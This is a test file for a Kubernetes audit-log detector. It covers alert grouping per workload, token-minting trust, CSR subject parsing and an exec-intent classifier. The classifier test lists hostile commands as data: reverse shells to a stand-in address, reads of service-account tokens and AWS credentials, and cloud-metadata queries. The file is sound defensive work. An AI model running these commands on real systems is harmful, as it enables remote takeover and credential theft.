// What the catalogue's one-case-one-detector tester cannot show about the rules of issue 19: a
// controller's pods raise once per workload, the header fast path never hides what these rules judge,
// a CSR's subject is read from the request bytes, and KM-DT-041's configuration is announced once.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Detector, type Suppression } from '../../src/detect/engine.js';
import { TrustPolicy } from '../../src/detect/trust.js';
import { csrSubject } from '../../src/detect/csr.js';
import { execIntent } from '../../src/detect/exec-intent.js';
import { detectionRules, findDetectionRule } from '../../src/detect/rules/index.js';
import { DEFAULT_DETECTION_SETTINGS, type DetectionSettings, type ExampleCase } from '../../src/detect/rule.js';
import { auditEvent, busybox, controllerSA, CONTROLLER_MANAGER, createDeployment, DEV, KUBELET, ownedPod, type ExampleUser } from '../../src/detect/rules/examples.js';
import type { AuditAlert as Alert } from '../../src/detect/alert.js';
import type { JsonObject } from '../../src/core/json.js';
import { runCli } from '../helpers/cli.js';

function run(lines: readonly JsonObject[], options: { fastPath?: boolean; settings?: Partial<DetectionSettings> } = {}): Alert[] {
  const settings = { ...DEFAULT_DETECTION_SETTINGS, ...options.settings };
  const alerts: Alert[] = [];
  const d = new Detector({
    rules: detectionRules, settings, trust: new TrustPolicy({ internalNetworks: settings.internalNetworks }), headerFastPath: options.fastPath ?? true,
    emit: (a) => alerts.push(a), onRuleError: (_id, e) => { throw e; },
  });
  for (const l of lines) d.line(JSON.stringify(l), 't', 1);
  return alerts;
}

const cases = (c: ExampleCase): JsonObject[] => (Array.isArray(c) ? [...(c as readonly JsonObject[])] : [c as JsonObject]);
const PRIVILEGED = { containers: [busybox({ securityContext: { privileged: true } })] };
const replica = (rs: string, hash: string, ns = 'default'): JsonObject => ownedPod(ns, { kind: 'ReplicaSet', name: `${rs}-${hash}` }, PRIVILEGED, controllerSA('replicaset-controller'), { 'pod-template-hash': hash });

describe('KM-DT-026: pods of a workload whose write was not seen', () => {
  test('one alert per workload, not per replica; a second workload raises its own', () => {
    const daemon = (): JsonObject => ownedPod('monitoring', { kind: 'DaemonSet', name: 'node-shell' }, PRIVILEGED, controllerSA('daemon-set-controller'));
    const lines = [replica('miner', '5fd989f974'), replica('miner', '5fd989f974'), replica('miner', '5fd989f974'), daemon(), daemon(), daemon(), replica('other', '6d4cf56db6')];
    const alerts = run(lines).filter((a) => a.ruleId === 'KM-DT-026');
    assert.deepEqual(alerts.map((a) => a.details?.owner), ['Deployment default/miner', 'DaemonSet monitoring/node-shell', 'Deployment default/other']);
  });

  test('a rollout of the same Deployment (a new ReplicaSet hash) is still the same workload', () => {
    const alerts = run([replica('miner', '5fd989f974'), replica('miner', '7c9d8b6f5d')]).filter((a) => a.ruleId === 'KM-DT-026');
    assert.equal(alerts.length, 1);
  });

  test('a workload written (and judged) in the log leaves its pods to the write: KM-DT-006 once, KM-DT-026 never', () => {
    const alerts = run([createDeployment('miner', 'default', PRIVILEGED, DEV), replica('miner', '5fd989f974'), replica('miner', '5fd989f974')]);
    assert.deepEqual(alerts.filter((a) => a.ruleId === 'KM-DT-006' || a.ruleId === 'KM-DT-026').map((a) => a.ruleId), ['KM-DT-006']);
  });

  test('the same workload name in another namespace is another workload', () => {
    const alerts = run([createDeployment('miner', 'default', PRIVILEGED, DEV), replica('miner', '5fd989f974', 'shop')]).filter((a) => a.ruleId === 'KM-DT-026');
    assert.deepEqual(alerts.map((a) => a.details?.owner), ['Deployment shop/miner']);
  });
});

describe('KM-DT-017: the control plane\'s token requests its job never makes', () => {
  const mint = (namespace: string, name: string, user: ExampleUser): JsonObject => auditEvent({ verb: 'create', code: 201, uri: `/api/v1/namespaces/${namespace}/serviceaccounts/${name}/token`, resource: 'serviceaccounts', subresource: 'token', namespace, name, user });
  test('kube-controller-manager minting for its own accounts is trusted (and --explain-allow names the entry); for an application\'s account it is raised', () => {
    for (const fastPath of [true, false]) {
      const alerts = run([mint('kube-system', 'replicaset-controller', CONTROLLER_MANAGER), mint('production', 'app-sa', CONTROLLER_MANAGER), mint('shop', 'web', KUBELET)], { fastPath }).filter((a) => a.ruleId === 'KM-DT-017');
      assert.deepEqual(alerts.map((a) => a.what.namespace), ['production'], `fast path ${fastPath}`);
    }
    const suppressed: Suppression[] = [];
    const d = new Detector({ rules: [findDetectionRule('KM-DT-017')!], settings: DEFAULT_DETECTION_SETTINGS, emit: () => undefined, onSuppressed: (x) => suppressed.push(x) });
    d.line(JSON.stringify(mint('kube-system', 'replicaset-controller', CONTROLLER_MANAGER)));
    assert.deepEqual(suppressed.map((x) => x.by.kind === 'trust' ? x.by.entry.id : ''), ['component:system:kube-controller-manager']);
  });
});

describe('the header fast path skips nothing the new rules judge', () => {
  const NEW = ['KM-DT-005', 'KM-DT-009', 'KM-DT-017', 'KM-DT-013', 'KM-DT-015', 'KM-DT-026', 'KM-DT-027', 'KM-DT-028', 'KM-DT-029', 'KM-DT-040', 'KM-DT-041', 'KM-DT-042', 'KM-DT-043', 'KM-DT-044', 'KM-DT-045', 'KM-DT-046', 'KM-DT-047', 'KM-DT-048'];
  for (const id of NEW) {
    test(`${id}: every example gives the same alerts from all rules, with and without it`, () => {
      const rule = findDetectionRule(id)!;
      const settings = rule.examples.settings;
      let raised = 0;
      for (const c of [...rule.examples.trigger, ...rule.examples.ignore]) {
        const key = (a: Alert): string => `${a.ruleId} ${a.auditID} ${a.message}`;
        const fast = run(cases(c), { fastPath: true, settings }).map(key);
        assert.deepEqual(fast, run(cases(c), { fastPath: false, settings }).map(key));
        raised += fast.filter((k) => k.startsWith(id)).length;
      }
      assert.ok(raised >= rule.examples.trigger.length, `${id} raised on its triggering examples`);
    });
  }
});

describe('CSR subjects (KM-DT-040)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'kubemoat-csr-'));
  const csr = (subject: string): string => {
    const pem = execFileSync('openssl', ['req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', join(dir, 'k.pem'), '-utf8', '-subj', subject], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
    return Buffer.from(pem).toString('base64');
  };

  test('CN and every O of requests openssl writes, UTF-8 included', () => {
    assert.deepEqual(csrSubject(csr('/O=system:masters/O=ops/CN=backdoor')), { commonName: 'backdoor', organizations: ['system:masters', 'ops'] });
    assert.deepEqual(csrSubject(csr('/CN=system:node:worker-1/O=system:nodes')), { commonName: 'system:node:worker-1', organizations: ['system:nodes'] });
    assert.deepEqual(csrSubject(csr('/C=DE/CN=jürgen')), { commonName: 'jürgen', organizations: [] });
  });

  test('anything that is not a whole request gives no subject instead of a wrong one', () => {
    const good = Buffer.from(csr('/CN=alice'), 'base64').toString('latin1');
    const body = /-----BEGIN CERTIFICATE REQUEST-----\n([^-]+)-----END/.exec(good)![1].replace(/\n/g, '');
    const cut = `-----BEGIN CERTIFICATE REQUEST-----\n${Buffer.from(body, 'base64').subarray(0, 20).toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`;
    for (const bad of ['', 'not base64 at all', Buffer.from('hello').toString('base64'), Buffer.from(cut).toString('base64')]) assert.equal(csrSubject(bad), undefined, bad);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('KM-DT-041 and detect.internalNetworks on the command line', () => {
  const dir = mkdtempSync(join(tmpdir(), 'kubemoat-internal-'));
  const rule = findDetectionRule('KM-DT-041')!;
  const log = join(dir, 'audit.log');
  writeFileSync(log, rule.examples.trigger.flatMap(cases).map((e) => JSON.stringify(e)).join('\n') + '\n');
  const none = join(dir, 'none.yaml');
  writeFileSync(none, 'detect:\n  allow: []\n');

  test('without internalNetworks: no KM-DT-041 alert, and one notice on stderr (not one per event)', () => {
    const r = runCli(['detect', log, '-c', none]);
    assert.equal(r.status, 0, r.stderr);
    assert.ok(!r.stdout.includes('"KM-DT-041"'));
    assert.equal(r.stderr.split('detect.internalNetworks').length - 1, 1, r.stderr);
  });

  test('with them: the alerts, no notice; --disable KM-DT-041 drops the notice too', () => {
    const cfg = join(dir, 'nets.yaml');
    writeFileSync(cfg, 'detect:\n  internalNetworks: ["10.77.0.0/16", "127.0.0.0/8"]\n');
    const r = runCli(['detect', log, '-c', cfg]);
    assert.equal(r.status, 0, r.stderr);
    assert.ok(!r.stderr.includes('judges nothing'), r.stderr);
    const ids = r.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as Alert).ruleId);
    // the CLI gives the engine the config's networks: the same alerts as the engine run with them
    const engine = run(rule.examples.trigger.flatMap(cases), { settings: rule.examples.settings }).filter((a) => a.ruleId === 'KM-DT-041');
    assert.ok(engine.length >= 4);
    assert.equal(ids.filter((i) => i === 'KM-DT-041').length, engine.length, r.stdout);
    const off = runCli(['detect', log, '--disable', 'KM-DT-041', '-c', none]);
    assert.ok(!off.stderr.includes('judges nothing'), off.stderr);
  });

  test('a network that is not one is exit 2 naming the key', () => {
    const cfg = join(dir, 'bad.yaml');
    writeFileSync(cfg, 'detect:\n  internalNetworks: ["10.0.0.300/8"]\n');
    const r = runCli(['detect', log, '-c', cfg]);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /bad\.yaml: detect\.internalNetworks: not an IP address or CIDR: "10\.0\.0\.300\/8"/);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('exec intent (KM-DT-001 critical)', () => {
  test('credentials, the metadata service and reverse shells are read from the words; ordinary commands are not', () => {
    const cases: [string[], string | undefined][] = [
      [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'credentials'],
      [['sh', '-c', 'cat /root/.aws/credentials'], 'credentials'],
      [['curl', 'http://169.254.169.254/latest/meta-data/'], 'cloud metadata'],
      [['wget', '-qO-', 'http://metadata.google.internal/computeMetadata/v1/'], 'cloud metadata'],
      [['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], 'reverse shell'],
      [['sh', '-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f'], 'reverse shell'],
      [['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], 'reverse shell'],
      [['id'], undefined],
      [['cat', '/etc/hostname'], undefined],
      [['nc', '-zv', 'db', '5432'], undefined],
      [['ls', '/var/run'], undefined],
      [[], undefined],
    ];
    for (const [argv, kind] of cases) assert.equal(execIntent(argv)?.kind, kind, argv.join(' '));
  });
});
